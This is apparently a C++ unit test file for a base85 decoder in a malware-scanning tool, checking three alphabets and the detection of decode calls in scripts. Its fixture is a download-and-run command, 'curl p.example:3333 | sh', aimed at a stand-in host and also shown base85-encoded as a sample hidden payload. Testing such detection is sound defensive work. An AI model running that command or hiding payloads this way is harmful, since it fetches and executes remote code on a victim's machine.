#include "inspect/decoders/base85.h"

#include <doctest/doctest.h>

#include "inspect/decoders.h"

namespace minescan::inspect::decoders {
namespace {

const std::string kText = "curl p.example:3333 | sh";

std::vector<Decoded> decoded(std::string_view text) {
  Decoders decoders(ViewKind::script);
  std::vector<Decoded> found;
  decoders.window({.bytes = as_bytes(text), .from = 0, .to = text.size()}, true, found);
  return found;
}

bool finds(std::string_view text) {
  for (const Decoded& part : decoded(text)) {
    if (part.name == "base85" && part.bytes == kText) return true;
  }
  return false;
}

}  // namespace

// Made by Python's base64 module and by ZeroMQ's specification 32.
TEST_CASE("base85: three alphabets, whole and with a short last group") {
  CHECK(base85(R"x(V|8+DAaE{acwudDY-Kt#Gcz+Fd?0gZ)x", Base85::python) == kText);
  CHECK(base85(R"x(V|8+DAaE{acwudDY-Kt#Gcz+Fd?0f)x", Base85::python) ==
        kText.substr(0, kText.size() - 1));
  CHECK(base85(R"x(@s)g.+E/rEG[YH.Ch5X`1G^g0Hm!KD)x", Base85::adobe) == kText);
  CHECK(base85(R"x(<~@s)g.+E
/rEG[YH.Ch5X`1G^g0Hm!KD~>)x",
               Base85::adobe) == kText);
  CHECK(base85("z", Base85::adobe) == std::string(4, '\0'));
  CHECK(base85(R"x(v%8*daAe@ACWUDdy?kT-gCZ*fD)0Gz)x", Base85::zeromq) == kText);
}

TEST_CASE("base85: what is none") {
  CHECK_FALSE(base85("a b", Base85::python));
  CHECK_FALSE(base85("~~~~~", Base85::python));  // too large
  CHECK_FALSE(base85("a", Base85::zeromq));
  CHECK_FALSE(base85("vwxyz", Base85::adobe));
  CHECK(base85("", Base85::python) == "");
}

TEST_CASE("base85: backslashes of a literal stand for themselves once, of a raw one as they are") {
  const auto reads = [](std::string_view text) {
    const auto found = decoded(text);
    return found.size() == 1 && found[0].bytes == "run run less run host cat";
  };
  CHECK(reads(R"x(run(base64.a85decode(b'Ecl7BEcl7BCh7[/+EDUB+D>\\7F<G(%F8')))x"));
  CHECK(reads(R"x(run(base64.a85decode(r'Ecl7BEcl7BCh7[/+EDUB+D>\7F<G(%F8')))x"));
}

TEST_CASE("base85: calls with a literal or a name") {
  CHECK(finds(R"x(run(base64.b85decode("V|8+DAaE{acwudDY-Kt#Gcz+Fd?0gZ")))x"));
  CHECK(finds(R"x(d = b'V|8+DAaE{acwudDY-Kt#Gcz+Fd?0gZ'
run(base64.b85decode(d)))x"));
  CHECK(finds(R"x(run(base64.a85decode(r'''@s)g.+E/rEG[YH.Ch5X`1G^g0Hm!KD''')))x"));
  CHECK(finds(R"x(run(z85.decode('v%8*daAe@ACWUDdy?kT-gCZ*fD)0Gz')))x"));
  CHECK(decoded(R"x(d = b'V|8+DAaE{acwudDY-Kt#Gcz+Fd?0gZ'
run(d))x")
            .empty());
  CHECK(decoded("b85decode('not of the alphabet, at all')").empty());
}

}  // namespace minescan::inspect::decoders
